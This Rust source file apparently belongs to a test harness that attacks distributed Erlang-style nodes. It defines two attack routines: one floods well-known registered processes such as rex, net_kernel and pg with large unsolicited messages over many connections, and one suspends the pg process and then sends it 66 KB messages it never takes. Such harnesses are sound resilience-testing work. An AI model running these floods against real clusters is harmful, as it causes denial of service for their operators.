//! Messages to the processes of every node, as many as fit.

use std::time::{Duration, Instant};

use peerl_node::Term;

use super::Attack;
use super::attacker::{Written, head};
use super::fragments::to_name;

/// Processes of a worker that anyone can send to.
const NAMES: [&str; 6] = ["rex", "net_kernel", "user", "logger", "pg", "global_name_server"];

/// Messages of so many bytes that nobody has asked for, with ticks between them.
pub fn messages(size: usize, connections: usize) -> Attack {
    let name = format!("messages of {size} bytes to all names, {connections} connections");
    Attack::together(name, connections, move |attacker, end| {
        let payload = Term::tuple([Term::atom("garbage"), Term::binary(vec![7; size])]).encode();
        let mut round = Vec::new();
        let mut count = 0;
        while round.len() < 256 << 10 {
            for name in NAMES {
                round.extend_from_slice(&head(&to_name(attacker, 1, name), payload.len() - 1));
                round.extend_from_slice(&payload[1..]);
                count += 1;
            }
            // A tick.
            round.extend_from_slice(&[0; 4]);
        }
        while Instant::now() < end && attacker.write(&[&round], end) == Written::All {
            attacker.sent += count;
        }
        attacker.wait(end);
    })
}

/// Up to so many messages of 66 KB for a suspended process, each in a read of its own, which is full of ticks.
pub fn in_large_reads(most: u32) -> Attack {
    Attack::together(format!("{most} messages of 66 KB that nobody takes, with ticks"), 1, move |attacker, end| {
        let (patience, from) = (end + Duration::from_secs(20), Term::tuple([attacker.process(1).into(), 1.into()]));
        let suspend = Term::tuple([Term::atom("system"), from, Term::atom("suspend")]);
        let control = to_name(attacker, 1, "pg");
        attacker.intruder.frame(control.clone(), Some(suspend));
        let payload = Term::binary(vec![7; 66_000]).encode();
        let round = [&vec![0; 190 << 10][..], &head(&control, payload.len() - 1), &payload[1..]].concat();
        for _ in 0..most {
            if attacker.write(&[&round], patience) != Written::All {
                break;
            }
            attacker.sent += 1;
        }
        attacker.wait(Instant::now() + Duration::from_secs(1));
    })
}
